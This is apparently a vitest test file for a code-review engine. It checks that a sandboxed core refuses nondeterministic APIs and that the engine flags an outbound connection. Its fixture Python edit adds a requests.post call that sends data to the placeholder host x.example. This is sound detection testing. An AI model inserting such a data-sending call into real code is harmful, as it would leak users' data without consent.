import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Texts } from '../../server/src/core/ingest.ts';
import type { GrammarFiles } from '../../server/src/core/load-language.ts';
import type { ReviewResult } from '../../server/src/core/model/result.ts';
import { loadPoisonedCore, verbsEntry } from './poisoned-core.ts';

/** A core of our own, to see that the poison works. */
async function loadCanary(source: string) {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'poisoned-'));
  try {
    const file = path.join(folder, 'verbs.ts');
    fs.writeFileSync(file, source);
    return await loadPoisonedCore(file);
  } finally {
    fs.rmSync(folder, { recursive: true, force: true });
  }
}

describe('a poisoned core', () => {
  test.each([
    ['Date.now()', 'poisoned: Date.now'],
    ['new Date()', 'poisoned: new Date()'],
    ['Date()', 'poisoned: Date()'],
    ['Math.random()', 'poisoned: Math.random'],
    ["'a'.localeCompare('b')", 'poisoned: localeCompare'],
    ['(1.5).toLocaleString()', 'poisoned: toLocaleString'],
    ['new Date(0).toLocaleDateString()', 'poisoned: toLocaleDateString'],
    ['Intl.DateTimeFormat()', 'Intl is not defined'],
    ["fetch('x')", 'fetch is not defined'],
    ['process.cwd()', 'process is not defined'],
    ['performance.now()', 'performance is not defined'],
    ['setTimeout(() => 1)', 'setTimeout is not defined'],
    ['crypto.randomUUID()', 'crypto is not defined'],
  ])('refuses %s', async (expression, message) => {
    const { verbs } = await loadCanary(`export const tried = () => ${expression};`);
    expect(verbs['tried']).toThrow(message);
  });

  test.each(["import 'node:fs';", "require('fs');"])('cannot be bundled with Node inside: %s', async (source) => {
    await expect(loadCanary(source)).rejects.toThrow(/Could not resolve "(node:)?fs"/);
  });

  test('still knows dates as values', async () => {
    const { evaluate } = await loadCanary('export {};');
    expect(evaluate('new Date(0).toISOString()')).toBe('1970-01-01T00:00:00.000Z');
    expect(evaluate('new Date(0) instanceof Date')).toBe(true);
  });
});

describe('the core', () => {
  test('is there', () => expect(fs.existsSync(verbsEntry)).toBe(true));

  test.runIf(fs.existsSync(verbsEntry))('loads poisoned, and wants nothing from outside', async () => {
    const { verbs, externals } = await loadPoisonedCore(verbsEntry);
    expect(Object.keys(verbs).length).toBeGreaterThan(0);
    // web-tree-sitter's own, behind its question whether this is Node.
    expect(['fs/promises', 'module']).toEqual(expect.arrayContaining([...externals]));
  });

  test('analyses an edit poisoned', async () => {
    const { verbs, toBytes, evaluate } = await loadPoisonedCore(verbsEntry);
    const modules = path.resolve(import.meta.dirname, '../../node_modules');
    const grammars = path.resolve(import.meta.dirname, '../../grammars');
    const read = (file: string) => Promise.resolve(toBytes(fs.readFileSync(file)));
    const reviewTexts = evaluate(analyseTexts) as (
      core: unknown,
      files: GrammarFiles,
      texts: Texts,
      pack: object,
    ) => Promise<ReviewResult>;
    const result = await reviewTexts(
      verbs,
      {
        runtime: () => read(path.join(modules, 'web-tree-sitter/web-tree-sitter.wasm')),
        grammar: (name) => read(path.join(modules, `tree-sitter-wasm/out/${name}/tree-sitter-${name}.wasm`)),
        facts: (id) => Promise.resolve(fs.readFileSync(path.join(grammars, id, 'facts.scm'), 'utf8')),
      },
      {
        before: { 'a.py': 'import requests\n\n\ndef send(data):\n    return data\n' },
        after: {
          'a.py':
            'import requests\n\n\ndef send(data):\n    requests.post("https://x.example", json=data)\n    return data\n',
        },
      },
      {
        file: 'countersign:recommended',
        text: fs.readFileSync(path.resolve(import.meta.dirname, '../../server/rules/recommended.yaml'), 'utf8'),
      },
    );
    expect(result.failures).toEqual([]);
    expect(result.findings.map(({ message }) => message)).toContain('Connects to x.example.');
  });
});

/** Runs inside, on the verbs as they were bundled. */
const analyseTexts = `(async (core, files, texts, pack) => {
  const engine = core.createEngine(files);
  const policy = core.loadPolicy({ packs: { [pack.file]: pack }, repository: null }).value;
  const origin = { kind: 'unknown', channel: 'ndjson', held: false, claimedBy: 'test' };
  const { changeSet } = core.ingestTexts(texts, origin);
  const cancel = { isCancelled: () => false, pause: () => Promise.resolve() };
  const cache = { get: () => undefined, set: () => {} };
  return (await core.analyze(changeSet, { engine, policy, files: new Map(), cache, cancel })).conclude();
})`;
